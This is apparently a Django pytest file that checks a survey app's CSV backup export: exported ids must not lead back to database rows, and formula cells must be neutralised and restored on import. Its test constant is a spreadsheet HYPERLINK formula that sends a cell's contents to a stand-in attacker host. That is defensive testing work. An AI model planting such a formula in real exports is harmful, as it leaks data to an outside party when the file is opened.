"""Attack 6: the backup export. Its response ids must lead nowhere in the database, and a cell that
a spreadsheet would run as a formula is written as text (and read back as it was)."""

from __future__ import annotations

import csv
import uuid

from django.core.management import call_command
from django.db import connection

from scorecards.services import cycle_aggregate
from surveys.models import Response
from tests.scenarios import build_scenario

FORMULA = '=HYPERLINK("http://evil.example/"&A1)'


def _every_uuid_in_the_database() -> set[str]:
    found = set()
    with connection.cursor() as cursor:
        cursor.execute(
            "SELECT table_name, column_name FROM information_schema.columns"
            " WHERE table_schema = 'public' AND data_type = 'uuid'"
        )
        for table, column in cursor.fetchall():
            cursor.execute(f'SELECT "{column}"::text FROM "{table}"')
            found |= {value.replace("-", "") for (value,) in cursor.fetchall() if value}
    return found


def test_the_backup_export_has_fresh_ids_and_no_live_formula(postgresql, tmp_path):
    scenario = build_scenario()
    invitations = scenario.invitations()
    scenario.answer(invitations[0], comment=FORMULA)
    for invitation in invitations[1:15]:
        scenario.answer(invitation)
    scenario.hr_client().post(f"/hr/cycles/{scenario.cycle.pk}/close/")
    assert Response.objects.filter(comment_good=FORMULA).count() == 1

    path = tmp_path / "backup.csv"
    call_command("export_responses", str(path), cycle=scenario.cycle.name)
    with open(path, encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    ids = {row["response_id"] for row in rows}
    assert len(ids) == 15
    assert not ids & _every_uuid_in_the_database(), "the export's ids lead back to rows of the database"
    assert all(uuid.UUID(value) for value in ids)
    comments = {row["comment_good"] for row in rows}
    assert "'" + FORMULA in comments and FORMULA not in comments

    # It loads back as it was: the same comment, not the prefixed one.
    call_command("import_responses", str(path), "--cycle=Restored", "--opens=2026-01-05", "--closes=2026-01-19")
    restored = Response.objects.filter(cycle__name="Restored")
    assert restored.count() == 15 and restored.filter(comment_good=FORMULA).count() == 1
    cycle_aggregate(cycle_id=restored.first().cycle_id)
